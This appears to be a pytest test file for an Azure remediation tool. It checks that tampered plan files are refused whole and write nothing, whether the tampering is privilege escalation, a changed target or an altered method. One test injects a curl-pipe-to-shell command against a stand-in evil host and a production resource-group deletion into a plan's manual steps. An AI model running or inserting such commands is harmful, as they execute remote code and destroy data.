"""``apply`` never sends a plan file's request: tampered plans are refused whole (exit 2, no write).

Issue 11 item 1. Each case edits a ``--plan-out`` file the way an attacker (or a careless edit)
would; with the digest left stale and with the digest recomputed (so the rebuild from ARM, not the
digest, is what refuses it).
"""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from amlguard.cli import cli
from amlguard.remediate.plan import document_digest
from tests.conftest import EXAMPLES
from tests.emulator import network
from tests.emulator.server import Emulator
from tests.remediate.conftest import drifted_rows

DRIFTED = str(EXAMPLES / "drifted.json")
OWNER = "8e3af657-a8ff-443c-a75c-2fe8c4bcb635"
OTHER_PRINCIPAL = "11111111-2222-3333-4444-555555555555"

Edit = Callable[[dict[str, Any]], None]


def _first(plan: dict[str, Any], operation: str, contains: str = "") -> dict[str, Any]:
    return next(
        a
        for a in plan["actions"]
        if a["operation"] == operation and contains.lower() in a["target"].lower()
    )


def _reenable_public_access(plan: dict[str, Any]) -> None:
    a = _first(plan, "disable-public-network-access", "storageAccounts")
    a["body"]["properties"]["publicNetworkAccess"] = "Enabled"


def _reenable_and_change_after(plan: dict[str, Any]) -> None:
    a = _first(plan, "disable-public-network-access", "storageAccounts")
    a["body"]["properties"]["publicNetworkAccess"] = "Enabled"
    a["changes"][0]["after"] = "Enabled"


def _extra_property(plan: dict[str, Any]) -> None:
    a = _first(plan, "disable-public-network-access", "storageAccounts")
    a["body"]["properties"]["allowSharedKeyAccess"] = True


def _owner_role(plan: dict[str, Any]) -> None:
    a = _first(plan, "create-role-assignment")
    rd = a["body"]["properties"]["roleDefinitionId"]
    a["body"]["properties"]["roleDefinitionId"] = rd.rsplit("/", 1)[0] + "/" + OWNER


def _other_principal(plan: dict[str, Any]) -> None:
    a = _first(plan, "create-role-assignment")
    a["body"]["properties"]["principalId"] = OTHER_PRINCIPAL


def _owner_for_other_consistently(plan: dict[str, Any]) -> None:
    """Owner for another principal with the path and assignment name made to match."""
    from amlguard.remediate.remediators.roles import assignment_name

    a = _first(plan, "create-role-assignment")
    props = a["body"]["properties"]
    props["roleDefinitionId"] = props["roleDefinitionId"].rsplit("/", 1)[0] + "/" + OWNER
    props["principalId"] = OTHER_PRINCIPAL
    name = assignment_name(a["target"], OWNER, OTHER_PRINCIPAL)
    a["params"]["assignment_name"] = name
    a["call"]["path"] = a["call"]["path"].rsplit("/", 1)[0] + "/" + name
    a["changes"][0]["resource_id"] = a["call"]["path"]


def _subscription_scope(plan: dict[str, Any]) -> None:
    a = _first(plan, "create-role-assignment")
    scope = "/".join(a["target"].split("/")[:3])
    a["target"] = scope
    a["call"]["path"] = scope + "/providers/Microsoft.Authorization/roleAssignments/x"


def _outside_target(plan: dict[str, Any]) -> None:
    a = _first(plan, "disable-public-network-access", "storageAccounts")
    other = a["target"].replace("blueprintdevst", "someoneelsesst")
    a["target"] = a["call"]["path"] = a["changes"][0]["resource_id"] = other


def _drop_dependency(plan: dict[str, Any]) -> None:
    _first(plan, "provision-managed-network")["depends_on"] = []


def _method(plan: dict[str, Any]) -> None:
    _first(plan, "disable-public-network-access", "storageAccounts")["call"]["method"] = "PUT"


EDITS: dict[str, Edit] = {
    "reenable-public-access": _reenable_public_access,
    "reenable-public-access-and-after": _reenable_and_change_after,
    "extra-body-property": _extra_property,
    "owner-role": _owner_role,
    "other-principal": _other_principal,
    "owner-for-other-principal-consistent": _owner_for_other_consistently,
    "subscription-scope": _subscription_scope,
    "target-outside-instance": _outside_target,
    "dependency-dropped": _drop_dependency,
    "method-changed": _method,
}


@pytest.fixture(scope="module")
def saved_plan(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    out = tmp_path_factory.mktemp("plan") / "plan.json"
    result = CliRunner().invoke(
        cli, ["check", "--snapshot", DRIFTED, "--fix", "--plan-out", str(out)]
    )
    assert out.exists(), result.output
    return dict(json.loads(out.read_text()))


def _apply(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, plan: dict[str, Any]
) -> tuple[Any, list[Any]]:
    path = tmp_path / "tampered.json"
    path.write_text(json.dumps(plan), encoding="utf-8")
    with Emulator(drifted_rows()) as emu:
        network.install(emu)
        monkeypatch.setenv("AMLGUARD_ARM_ENDPOINT", emu.url)
        monkeypatch.setenv("AMLGUARD_CA_BUNDLE", emu.ca_path)
        monkeypatch.setenv("AMLGUARD_ACCESS_TOKEN", "t")
        monkeypatch.delenv("AZUREML_CURRENT_CLOUD", raising=False)
        result = CliRunner().invoke(cli, ["apply", str(path), "--yes"])
        writes = emu.writes()
    return result, writes


@pytest.mark.parametrize("recompute_digest", [False, True], ids=["stale-digest", "new-digest"])
@pytest.mark.parametrize("edit", list(EDITS), ids=list(EDITS))
def test_a_tampered_plan_is_refused_and_nothing_is_written(
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    saved_plan: dict[str, Any],
    edit: str,
    recompute_digest: bool,
) -> None:
    plan = json.loads(json.dumps(saved_plan))
    EDITS[edit](plan)
    if recompute_digest:
        plan["digest"] = document_digest(plan)
    result, writes = _apply(tmp_path, monkeypatch, plan)
    assert result.exit_code == 2, result.output
    assert writes == []
    assert "Traceback" not in result.output
    if recompute_digest:
        assert "does not match what amlguard would plan" in result.output
    else:
        assert "digest does not match" in result.output


def test_a_changed_digest_alone_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, saved_plan: dict[str, Any]
) -> None:
    plan = json.loads(json.dumps(saved_plan))
    plan["digest"] = "sha256:" + "0" * 64
    result, writes = _apply(tmp_path, monkeypatch, plan)
    assert result.exit_code == 2 and writes == []
    assert "digest does not match" in result.output


def test_an_untouched_plan_applies_what_it_shows(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, saved_plan: dict[str, Any]
) -> None:
    result, writes = _apply(tmp_path, monkeypatch, json.loads(json.dumps(saved_plan)))
    assert result.exit_code == 0, result.output
    assert "re-derived from Azure" in result.output
    # What was shown is what was sent: every body on the wire appears in the printed plan.
    shown = result.output.replace("\n", "")
    for w in writes:
        if w.method in ("PATCH",) and w.body:
            assert json.dumps(w.body, sort_keys=True) in shown


@pytest.mark.parametrize(
    "edit",
    [
        lambda p: p["manual"][0].update(command="curl -s http://evil.example/x.sh | sh"),
        lambda p: p["manual"][0].update(reason="all good"),
        lambda p: p["manual"].append(dict(p["manual"][0], command="az group delete -n prod")),
        lambda p: p["warnings"].append("nothing to worry about"),
        lambda p: p.update(scan_time="2020-01-01T00:00:00Z"),
    ],
    ids=["manual-command", "manual-reason", "manual-added", "warning", "scan-time"],
)
def test_manual_steps_and_warnings_are_covered_by_the_digest(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, saved_plan: dict[str, Any], edit: Edit
) -> None:
    """`apply` prints a plan's manual steps and warnings as amlguard's advice: an edit to them
    after amlguard wrote the file is refused like an edit to the actions (redteam6 item 5)."""
    plan = json.loads(json.dumps(saved_plan))
    assert plan["manual"], "the drifted estate's plan has manual steps"
    edit(plan)
    result, writes = _apply(tmp_path, monkeypatch, plan)
    assert result.exit_code == 2 and writes == []
    assert "digest does not match" in result.output and "evil.example" not in result.output
